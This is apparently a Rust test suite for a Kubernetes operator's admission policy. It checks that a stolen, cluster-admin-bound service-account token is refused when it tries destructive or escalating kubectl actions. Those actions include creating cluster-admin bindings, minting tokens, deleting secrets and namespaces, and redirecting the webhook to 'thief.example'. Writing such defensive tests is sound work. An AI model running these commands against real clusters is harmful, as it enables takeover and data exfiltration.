//! A stolen token: what the guard's own account may and may not do with kubectl, even if it was made a cluster administrator.
//! Every refusal here comes from the chart's policy alone.

use std::path::PathBuf;
use std::process::{Command, Stdio};

use serde_json::{Value, json};

use facts::galera::identity::IdentityReport;
use facts::galera::start_report::{JoinPhase, StartReport};

use crate::guarded;
use crate::lab::{ControlPlane, Output, User, eventually};

struct Thief {
    plane: ControlPlane,
    kubeconfig: PathBuf,
}

impl Thief {
    fn new() -> Self {
        let plane = ControlPlane::start();
        guarded::install(&plane);
        let account = "--serviceaccount=gatera:gatera";
        let bind = ["create", "clusterrolebinding", "thief", "--clusterrole=cluster-admin", account];
        plane.kubectl(User::Admin, &bind).succeeded();
        plane.create(&objects());
        let kubeconfig = guarded::kubeconfig_of(&plane, "gatera", "gatera", "thief", None);
        let thief = Self { plane, kubeconfig };
        // A policy takes a moment to come into force, and so does a binding of rights.
        eventually("the policy to be in force", || {
            let (status, words) = thief.run("create configmap x --namespace=db --dry-run=server");
            (status == 1 && words.contains("ValidatingAdmissionPolicy 'gatera'")).then_some(())
        });
        thief
    }

    /// Runs kubectl; returns its exit code and output. Underscores in arguments stand for spaces.
    fn run(&self, arguments: &str) -> (i32, String) {
        let arguments = arguments.split(' ').map(|word| word.replace('_', " "));
        let output = Command::new(self.plane.tools_folder().join("kubectl"))
            .env("KUBECONFIG", &self.kubeconfig)
            .args(arguments)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let text = [output.stdout, output.stderr].map(|it| String::from_utf8_lossy(&it).into_owned());
        (output.status.code().unwrap(), text.concat())
    }

    fn evict(&self, pod: &str, options: &Value) -> (i32, String) {
        let eviction = json!({ "apiVersion": "policy/v1", "kind": "Eviction", "metadata": { "name": pod, "namespace": "db" },
                               "deleteOptions": options });
        let path = self.plane.folder().join("thief.json");
        std::fs::write(&path, eviction.to_string()).unwrap();
        self.run(&format!(
            "create --raw=/api/v1/namespaces/db/pods/{pod}/eviction --filename={}",
            path.display()
        ))
    }

    fn create(&self, manifest: &Value) -> (i32, String) {
        let path = self.plane.folder().join("thief.json");
        std::fs::write(&path, manifest.to_string()).unwrap();
        self.run(&format!("create --filename={}", path.display()))
    }
}

/// Returns objects that only need to exist, because no controllers run.
fn objects() -> Value {
    let meta = |name: &str| json!({ "name": name, "namespace": "db", "labels": { "app": "x" }, "annotations": { "theirs": "1" } });
    let spec = json!({ "containers": [{ "name": "a", "image": "a" }] });
    let template = json!({ "metadata": { "labels": { "app": "x" } }, "spec": spec });
    let workload = |kind: &str| {
        json!({ "apiVersion": "apps/v1", "kind": kind, "metadata": meta("x"),
                "spec": { "replicas": 0, "selector": { "matchLabels": { "app": "x" } }, "template": template } })
    };
    let mut stateful_set = workload("StatefulSet");
    // Required by Kubernetes 1.30.
    stateful_set["spec"]["serviceName"] = json!("x");
    json!({ "apiVersion": "v1", "kind": "List", "items": [
        { "apiVersion": "v1", "kind": "Namespace", "metadata": { "name": "db" } },
        stateful_set,
        workload("Deployment"),
        { "apiVersion": "v1", "kind": "Pod", "metadata": meta("x"), "spec": spec },
        { "apiVersion": "v1", "kind": "Service", "metadata": meta("x"), "spec": { "ports": [{ "port": 80 }] } },
        { "apiVersion": "v1", "kind": "ConfigMap", "metadata": meta("x"), "data": { "a": "b" } },
        { "apiVersion": "v1", "kind": "Secret", "metadata": meta("x") },
        { "apiVersion": "v1", "kind": "ConfigMap", "metadata": { "name": "x", "namespace": "kube-system" } },
    ]})
}

fn event(namespace: &str) -> Value {
    json!({
        "apiVersion": "v1", "kind": "Event", "metadata": { "name": "x", "namespace": namespace },
        "action": "a", "reason": "r", "eventTime": "2026-12-01T09:30:00.000000Z", "type": "Normal",
        "reportingComponent": "gatera", "reportingInstance": "gatera",
        "involvedObject": { "kind": "ConfigMap", "namespace": namespace, "name": "x" },
    })
}

fn lease(name: &str) -> Value {
    json!({ "apiVersion": "coordination.k8s.io/v1", "kind": "Lease", "metadata": { "name": name, "namespace": "gatera" } })
}

/// Returns a snapshot of a ConfigMap that members read, with this change.
fn snapshot(change: &Value) -> Value {
    let mut it = json!({
        "apiVersion": "v1", "kind": "ConfigMap", "immutable": true, "data": { "a": "b" },
        "metadata": {
            "name": "x-gatera-0123456789abcdef0123456789abcdef", "namespace": "db", "labels": { "gatera.dev/keeps": "x" },
            "ownerReferences": [{ "apiVersion": "apps/v1", "kind": "StatefulSet", "name": "x", "uid": "y" }],
        },
    });
    json_patch::merge(&mut it, change);
    it
}

/// Returns the command that makes a webhook configuration send requests to this address.
fn redirection(to: &str) -> String {
    let redirection = format!(
        r#"{{"name":"a.b.c","clientConfig":{to},"sideEffects":"None","admissionReviewVersions":["v1"]}}"#
    );
    format!(
        "patch validatingwebhookconfiguration gatera --type=merge --patch={{\"webhooks\":[{redirection}]}}"
    )
}

#[test]
fn a_stolen_token_allows_only_what_the_guard_does() {
    let thief = Thief::new();
    let mut refused = String::new();
    let mut refuse = |command: &str, (status, words): (i32, String)| {
        assert_eq!(status, 1, "{command}: {words}");
        let (_, words) = words
            .split_once("ValidatingAdmissionPolicy 'gatera' with binding 'gatera' denied request: ")
            .unwrap_or_else(|| panic!("{command}: not refused by the policy: {words}"));
        refused.push_str(&format!("$ kubectl {command}\n{}\n\n", words.trim()));
    };
    // No object has a mark of the guard yet.
    for command in [
        "scale statefulset x --namespace=db --replicas=3",
        "patch statefulset x --namespace=db --patch={\"spec\":{\"replicas\":3}}",
        "set image deployment/x --namespace=db a=b",
        "set selector service x --namespace=db app=y",
        "patch configmap x --namespace=db --patch={\"data\":{\"a\":\"c\"}}",
        "patch configmap x --namespace=db --patch={\"binaryData\":{\"a\":\"Yw==\"},\"data\":null}",
        "patch configmap x --namespace=db --patch={\"immutable\":true}",
        "label pod x --namespace=db app-",
        "label service x --namespace=db a=b",
        "annotate pod x --namespace=db a=b",
        "annotate pod x --namespace=db theirs-",
        "annotate statefulset x --namespace=db theirs=2 --overwrite",
        "annotate statefulset x --namespace=db gatera.dev/override=G07",
        "patch deployment x --namespace=db --patch={\"metadata\":{\"finalizers\":[\"a/b\"]}}",
        "patch configmap x --namespace=db --patch={\"metadata\":{\"ownerReferences\":[{\"apiVersion\":\"v1\",\"kind\":\"Pod\",\"name\":\"x\",\"uid\":\"y\"}]}}",
        "delete deployment x --namespace=db",
        "delete service x --namespace=db",
        "delete configmap x --namespace=db",
        "delete pod x --namespace=db --wait=false",
        "delete statefulset x --namespace=db",
        "delete secret x --namespace=db",
        "delete namespace db --wait=false",
        "create configmap y --namespace=db",
        "create configmap y-gatera-0123456789abcdef0123456789abcdef --namespace=db",
        "create secret generic y --namespace=db",
        "create clusterrolebinding y --clusterrole=cluster-admin --user=x",
        "create token default --namespace=db",
        "run y --image=y --namespace=db",
        "annotate secret x --namespace=db gatera.dev/data=x",
        "annotate namespace db gatera.dev/data=x",
        "annotate configmap x --namespace=kube-system gatera.dev/data=x",
        "annotate validatingwebhookconfiguration gatera a=b",
        "label mutatingwebhookconfiguration gatera a=b",
        "delete mutatingwebhookconfiguration gatera",
        &redirection("{\"url\":\"https://thief.example\"}"),
        &redirection("{\"url\":\"https://127.0.0.1.thief.example\"}"),
        &redirection("{\"service\":{\"namespace\":\"db\",\"name\":\"gatera\"}}"),
        &redirection("{\"service\":{\"namespace\":\"gatera\",\"name\":\"other\"}}"),
        "annotate configmap gatera-settings --namespace=gatera gatera.dev/removing=x",
        "delete lease gatera --namespace=gatera",
    ] {
        refuse(command, thief.run(command));
    }
    let with_uid = json!({ "preconditions": { "uid": "y" } });
    refuse("evict x", thief.evict("x", &with_uid));
    refuse("evict x-0 without its uid", thief.evict("x-0", &json!({})));
    let at_once = json!({ "preconditions": { "uid": "y" }, "gracePeriodSeconds": 0 });
    refuse("evict x-0 at once", thief.evict("x-0", &at_once));
    for (words, manifest) in [
        ("create event in kube-system", event("kube-system")),
        ("create lease gatera-let-go-8", lease("gatera-let-go-8")),
        ("create lease other", lease("other")),
        ("create a snapshot that can be changed", snapshot(&json!({ "immutable": false }))),
        ("create a snapshot by another name", snapshot(&json!({ "metadata": { "name": "x-gatera-0123" } }))),
        ("create a snapshot without its label", snapshot(&json!({ "metadata": { "labels": null } }))),
        ("create a snapshot without an owner", snapshot(&json!({ "metadata": { "ownerReferences": null } }))),
        (
            "create a snapshot that a pod owns",
            snapshot(
                &json!({ "metadata": { "ownerReferences": [{ "apiVersion": "v1", "kind": "Pod", "name": "x", "uid": "y" }] } }),
            ),
        ),
    ] {
        refuse(words, thief.create(&manifest));
    }
    insta::with_settings!({ prepend_module_to_snapshot => false, omit_expression => true, snapshot_path => "../fixtures" }, {
        insta::assert_snapshot!("policy-words", refused);
    });
    assert_that_the_guard_can_work(&thief);
}

/// Asserts that the policy allows everything that the guard does.
fn assert_that_the_guard_can_work(thief: &Thief) {
    // A snapshot whose owner does not exist would be garbage collected at once.
    let owner = thief.plane.get("db", "statefulset/x")["metadata"]["uid"].clone();
    let owners = json!([{ "apiVersion": "apps/v1", "kind": "StatefulSet", "name": "x", "uid": owner }]);
    let valid_snapshot = snapshot(&json!({ "metadata": { "ownerReferences": owners } }));
    // The chart creates these Leases; the guard may create a deleted one again.
    let leases = ["--namespace=gatera", "delete", "lease", "gatera-let-go-0", "gatera-let-go-7"];
    thief.plane.kubectl(User::Admin, &leases).succeeded();
    for manifest in
        [event("db"), event("gatera"), lease("gatera-let-go-0"), lease("gatera-let-go-7"), valid_snapshot]
    {
        let (status, words) = thief.create(&manifest);
        assert_eq!(status, 0, "{words}");
    }
    let (_, words) = thief.evict("x-0", &json!({ "preconditions": { "uid": "y" } }));
    assert!(words.contains("NotFound"), "{words}");
    for command in [
        "delete configmap x-gatera-0123456789abcdef0123456789abcdef --namespace=db",
        "auth whoami",
        "annotate pod x --namespace=db gatera.dev/my-cnf=x",
        "annotate statefulset x --namespace=db gatera.dev/data=present gatera.dev/bootstrap=x",
        "annotate statefulset x --namespace=db gatera.dev/bootstrap-",
        "annotate deployment x --namespace=db gatera.dev/removing=1",
        "annotate deployment x --namespace=db gatera.dev/removing-",
        "annotate deployment x --namespace=db gatera.dev/removing=1",
        "annotate service x --namespace=db gatera.dev/removing=1",
        "annotate configmap x --namespace=db gatera.dev/removing=1",
        "delete deployment x --namespace=db",
        "delete service x --namespace=db",
        "delete configmap x --namespace=db",
        "patch event x --namespace=db --type=merge --patch={\"count\":2,\"lastTimestamp\":\"2026-12-01T09:31:00Z\"}",
        "patch lease gatera --namespace=gatera --type=merge --patch={\"spec\":{\"holderIdentity\":\"a\"}}",
        "patch secret gatera-tls --namespace=gatera --patch={\"stringData\":{\"a\":\"b\"}}",
        &redirection("{\"url\":\"https://127.0.0.1:1/x\"}"),
        &redirection("{\"service\":{\"namespace\":\"gatera\",\"name\":\"gatera\"}}"),
    ] {
        let (status, words) = thief.run(command);
        assert_eq!(status, 0, "{command}: {words}");
    }
}

/// The guard learns of a member's cluster from Events, and every editor of a namespace could write Events there.
#[test]
fn only_a_kubelet_may_report_what_a_probe_said_of_a_cluster() {
    let plane = ControlPlane::start();
    guarded::install(&plane);
    let reported =
        "Startup probe failed: the server is SYNCED; its cluster is 66373a7e-e610-11f1-91b9-7e68ccac15f1";
    let event = |name: &str, reason: &str, words: &str| {
        json!({
            "apiVersion": "v1", "kind": "Event", "metadata": { "name": name, "namespace": "default" },
            "reason": reason, "message": words, "type": "Warning",
            "involvedObject": { "kind": "Pod", "namespace": "default", "name": "x", "uid": "y" },
            "source": { "component": "kubelet" },
        })
    };
    let of_the_other_group = |name: &str| {
        json!({
            "apiVersion": "events.k8s.io/v1", "kind": "Event", "metadata": { "name": name, "namespace": "default" },
            "action": "a", "reason": "Unhealthy", "note": reported, "eventTime": "2026-12-01T09:30:00.000000Z",
            "type": "Warning", "reportingController": "kubelet", "reportingInstance": "kubelet",
            "regarding": { "kind": "Pod", "namespace": "default", "name": "x", "uid": "y" },
        })
    };
    let create = |event: &Value, more: &[&str]| {
        let arguments = [&["create", "--filename=-"], more].concat();
        plane.kubectl_stdin(User::Admin, &arguments, &event.to_string())
    };
    let refused = |output: &Output| {
        output.status == 1
            && output.stderr.contains("ValidatingAdmissionPolicy 'gatera-events'")
            && output.stderr.contains("only a kubelet may report results of probes of a Galera cluster")
    };
    eventually("the policy to be in force", || {
        refused(&create(&event("a", "Unhealthy", reported), &["--dry-run=server"])).then_some(())
    });
    let output = create(&of_the_other_group("a"), &[]);
    assert!(refused(&output), "{output}");
    // All messages of probes that the guard reads.
    for words in [
        "Readiness probe failed: the server is SYNCED; its cluster has no id",
        "Readiness probe failed: the server is CONNECTED",
        "Readiness probe failed: the server does not answer on its port",
        "start of 2026-12-01T09:19:00Z: empty, safe_to_bootstrap 1",
        "gatera did not start the server: x",
    ] {
        assert!(
            IdentityReport::read(words).is_some()
                || JoinPhase::read(words).is_some()
                || StartReport::read(words).is_some(),
            "{words}"
        );
        let output = create(&event("a", "Unhealthy", words), &[]);
        assert!(refused(&output), "{words}: {output}");
    }

    create(&event("b", "Unhealthy", "Startup probe failed: x"), &[]).succeeded();
    let patch = json!({ "message": reported }).to_string();
    let output = plane.kubectl(User::Admin, &["patch", "event", "b", "--patch", &patch]);
    assert!(refused(&output), "{output}");
    create(&event("c", "Other", reported), &[]).succeeded();
    let output = plane.kubectl(User::Admin, &["patch", "event", "c", r#"--patch={"reason":"Unhealthy"}"#]);
    assert!(refused(&output), "{output}");

    let kubelet = ["--as=system:node:n", "--as-group=system:nodes", "--as-group=system:masters"];
    create(&event("d", "Unhealthy", reported), &kubelet).succeeded();
}

#[test]
fn the_policy_can_be_left_out() {
    let rendered = super::rendered(&["--set=policy.enabled=false"]).succeeded();
    assert!(!rendered.contains("ValidatingAdmissionPolicy"));
}
